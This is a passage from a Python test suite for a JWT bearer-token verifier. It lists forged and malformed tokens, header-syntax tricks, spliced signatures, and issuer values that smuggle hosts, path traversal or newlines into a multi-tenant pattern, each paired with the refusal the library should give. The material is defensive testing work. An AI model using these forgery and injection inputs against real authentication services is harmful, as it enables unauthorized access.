        ("signature-of-another-token", spliced_signature),
        (
            "attacker-signs-with-the-issuers-kid",
            lambda kit: SigningKey("RS256", kid=kit.key.kid, private=kit.attacker.private).sign(
                claims(kit)
            ),
        ),
        ("one-byte-signature", lambda kit: with_signature(kit, "RS256", kit.key.kid, b"\0")),
        (
            "signature-longer-than-the-modulus",
            lambda kit: with_signature(kit, "RS256", kit.key.kid, b"\xff" * 512),
        ),
    ]
]


# -- request syntax -----------------------------------------------------------------


def valid(kit: Kit) -> str:
    return kit.key.sign(claims(kit))


REQUEST_SYNTAX = (
    [
        Attack(
            "two-authorization-headers",
            "request syntax",
            lambda kit: (f"Bearer {valid(kit)}", f"Bearer {valid(kit)}"),
            400,
            "invalid_request",
            InvalidRequestError,
            "more than one",
        ),
        Attack(
            "two-credentials-in-one-header",
            "request syntax",
            lambda kit: (f"Bearer {valid(kit)}, Bearer {valid(kit)}",),
            400,
            "invalid_request",
            InvalidRequestError,
            "more than one",
        ),
        Attack(
            "basic-credentials",
            "request syntax",
            lambda kit: ("Basic dXNlcjpwYXNz",),
            401,
            None,
            MissingTokenError,
            "bearer token is required",
        ),
        Attack(
            "token-under-another-scheme",
            "request syntax",
            lambda kit: (f"DPoP {valid(kit)}",),
            401,
            None,
            MissingTokenError,
            "bearer token is required",
        ),
    ]
    + [
        # Only SP and HTAB are HTTP whitespace (RFC 9110 §5.6.3): any other
        # character around the scheme makes it another scheme ...
        Attack(
            f"not-http-whitespace-{name}-around-the-scheme",
            "request syntax",
            lambda kit, template=template: (template.format(valid(kit)),),
            401,
            None,
            MissingTokenError,
            "bearer token is required",
        )
        for name, template in [
            ("nbsp-before", "\xa0Bearer {}"),
            ("nel-before", "\x85Bearer {}"),
            ("file-separator-before", "\x1cBearer {}"),
            ("unit-separator-instead-of-space", "Bearer\x1f{}"),
            ("nbsp-instead-of-space", "Bearer\xa0{}"),
        ]
    ]
    + [
        # ... and after the token it is part of the credentials, which b64token refuses.
        Attack(
            f"not-http-whitespace-{name}-after-the-token",
            "request syntax",
            lambda kit, suffix=suffix: (f"Bearer {valid(kit)}{suffix}",),
            400,
            "invalid_request",
            InvalidRequestError,
            "invalid characters",
        )
        for name, suffix in [
            ("nbsp", "\xa0"),
            ("nel", "\x85"),
            ("group-separator", "\x1d"),
            ("record-separator", "\x1e"),
            ("vertical-tab", "\x0b"),
            ("form-feed", "\x0c"),
        ]
    ]
)


_NOT_MACHINE = "not a machine token"
MARKERS = [
    # A user's token from another client of a Keycloak realm, audience-mapped to us.
    invalid(
        "keycloak-user-token",
        "machine-token markers",
        signed(azp="web-portal", preferred_username="alice", sid="s-1"),
        InvalidClaimError,
        _NOT_MACHINE,
        profile="keycloak",
    ),
    invalid(
        "keycloak-user-token-with-service-account-name",
        "machine-token markers",
        signed(azp="web-portal", preferred_username="service-account-billing"),
        InvalidClaimError,
        _NOT_MACHINE,
        profile="keycloak",
    ),
    invalid(
        "keycloak-client-id-in-nested-claim",
        "machine-token markers",
        signed(azp="web-portal", realm_access={"client_id": "billing", "roles": []}),
        InvalidClaimError,
        _NOT_MACHINE,
        profile="keycloak",
    ),
    invalid(
        "delegated-scp",
        "machine-token markers",
        signed(gty="client-credentials", scp="read:users"),
        InvalidClaimError,
        "'scp' claim are not accepted",
        profile="app-only",
    ),
    *(
        invalid(
            f"grant-type-{id}",
            "machine-token markers",
            signed(**({} if gty is None else {"gty": gty})),
            InvalidClaimError,
            "'gty' claim is not",
            profile="app-only",
        )
        for id, gty in [
            ("password", "password"),
            ("missing", None),
            ("upper-case", "CLIENT-CREDENTIALS"),
            ("list", ["client-credentials"]),
        ]
    ),
]


ATTACKS: list[Attack] = [
    *ALG_NONE,
    *HMAC_CONFUSION,
    *KEY_BEARING,
    *KID_INJECTION,
    *ECDSA,
    *TOKEN_SHAPE,
    *BASE64,
    *OVERSIZED,
    *NESTED,
    *DUPLICATES,
    *CRIT,
    *TYP,
    *CLAIM_TYPES,
    *TIME,
    *ISSUER_TRICKS,
    *AUDIENCE,
    *SCOPES,
    *TAMPERING,
    *REQUEST_SYNTAX,
    *MARKERS,
]

#: A token each profile accepts: proof that every refusal above is the defence's doing.
CONTROLS: dict[str, Make] = {
    "stytch": lambda kit: kit.key.sign(claims(kit)),
    "strict": lambda kit: kit.key.sign(claims(kit, client_id=CLIENT_ID), {"typ": "at+jwt"}),
    "ecdsa": lambda kit: kit.ec_key.sign(claims(kit)),
    "large": lambda kit: kit.key.sign(claims(kit, pad="x" * 200_000)),
    "keycloak": lambda kit: kit.key.sign(claims(kit, client_id=CLIENT_ID, azp=CLIENT_ID)),
    "app-only": lambda kit: kit.key.sign(claims(kit, gty="client-credentials")),
}


def params() -> list[Any]:
    """Every attack as a pytest parameter."""
    return [attack.param() for attack in ATTACKS]


# -- multi-tenant issuers -----------------------------------------------------------
# The "tenants" profile is a MultiTenantVerifier whose issuer pattern is ISSUER
# with the project id as the tenant ("stytch.com/{tenant}"), admitting
# PROJECT_ID and OTHER_TENANT; ``tid`` must name the issuer's tenant.

OTHER_TENANT = "project-test-99999999-8888-7777-6666-555555555555"
TENANT_ISSUER = ISSUER.replace(PROJECT_ID, "{tenant}")


def _multi_tenant(*, issuer: str, **settings: Any) -> Any:
    from m2m_guard import Verifier

    return Verifier.multi_tenant(issuer=issuer.replace(PROJECT_ID, "{tenant}"), **settings)


PROFILES["tenants"] = {
    "factory": _multi_tenant,
    "tenants": {PROJECT_ID, OTHER_TENANT},
    "tenant_claim": "tid",
}
CONTROLS["tenants"] = lambda kit: kit.key.sign(claims(kit, tid=PROJECT_ID))

_NOT_A_TENANT = "not an accepted tenant"
TENANTS = [
    invalid(
        "tenant-tid-of-another-admitted-tenant",
        "multi-tenant issuers",
        signed(tid=OTHER_TENANT),
        InvalidClaimError,
        "does not name its issuer's tenant",
        profile="tenants",
    ),
    invalid(
        "tenant-without-tid",
        "multi-tenant issuers",
        signed(),
        InvalidClaimError,
        "does not name its issuer's tenant",
        profile="tenants",
    ),
    invalid(
        "tenant-unlisted",
        "multi-tenant issuers",
        signed(iss=TENANT_ISSUER.format(tenant="project-unlisted"), tid="project-unlisted"),
        InvalidIssuerError,
        _NOT_A_TENANT,
        profile="tenants",
    ),
    invalid(
        "tenant-admitted-but-signed-by-the-attacker",
        "multi-tenant issuers",
        signed(signer="attacker", iss=TENANT_ISSUER.format(tenant=OTHER_TENANT), tid=OTHER_TENANT),
        UnknownKeyError,
        "unknown key",
        profile="tenants",
        reaches_keys=True,
    ),
    *(
        invalid(
            f"tenant-placeholder-{id}",
            "multi-tenant issuers",
            signed(iss=TENANT_ISSUER.format(tenant=value), tid=value),
            InvalidIssuerError,
            "unexpected issuer",
            profile="tenants",
        )
        for id, value in [
            ("host-and-path", "evil.com/"),
            ("dot-dot", ".."),
            ("encoded-slash", "%2F"),
            ("empty", ""),
            ("userinfo", f"{PROJECT_ID}@evil.com"),
            ("port", f"{PROJECT_ID}:8443"),
            ("query", f"{PROJECT_ID}?x=1"),
            ("fragment", f"{PROJECT_ID}#x"),
            ("traversal", f"{OTHER_TENANT}/../{PROJECT_ID}"),
            ("newline", f"{PROJECT_ID}\n"),
        ]
    ),
]
ATTACKS.extend(TENANTS)

# -- routes and custom checks --------------------------------------------------
# Not hostile tokens but hostile (or careless) configuration and check code:
# a route that tries to accept more than its verifier, and checks that crash.
# ``test_route_rules.py`` runs them through every integration.


def _crashing_check(claims: Any, request: Any) -> None:
    raise RuntimeError(f"lookup failed for {claims.client_id}: secret-detail")


@dataclass(frozen=True)
class RouteAttack:
    """A route's own options and what m2m_guard must make of them.

    ``status`` ``None``: the route must be refused when it is built
    (``ConfigurationError`` naming ``fragment``); otherwise a valid token's
    request is answered with ``status`` and ``error``, and ``fragment`` never
    appears in the body (no internals leak).
    """

    id: str
    category: str
    route: dict[str, Any]
    fragment: str
    status: int | None = None
    error: str | None = None
    #: the verifier's own settings (issuer, audience and keys are added)
    verifier: dict[str, Any] | None = None


ROUTE_ATTACKS = [
    RouteAttack(
        "route-audience-widened", "route rules", {"audience": "https://evil.example"}, "audience"
    ),
    RouteAttack(
        "route-audience-list-widened",
        "route rules",
        {"audience": [PROJECT_ID, "https://evil.example"]},
        "evil.example",
    ),
    RouteAttack("route-audience-empty", "route rules", {"audience": []}, "audience"),
    RouteAttack(
        "route-issuer-widened", "route rules", {"issuer": "https://evil.example"}, "issuer"
    ),
    RouteAttack(
        "route-max-age-raised",
        "route rules",
        {"max_token_age": 3600},
        "may only lower",
        verifier={"max_token_age": 600},
    ),
    RouteAttack("route-max-age-negative", "route rules", {"max_token_age": -1}, "max_token_age"),
    RouteAttack("route-max-age-text", "route rules", {"max_token_age": "600"}, "max_token_age"),
    RouteAttack("route-checks-not-a-list", "custom checks", {"checks": "is_admin"}, "checks"),
    RouteAttack(
        "check-raises-unexpected",
        "custom checks",
        {"checks": [_crashing_check]},
        "secret-detail",
        status=503,
        error="temporarily_unavailable",
    ),
]
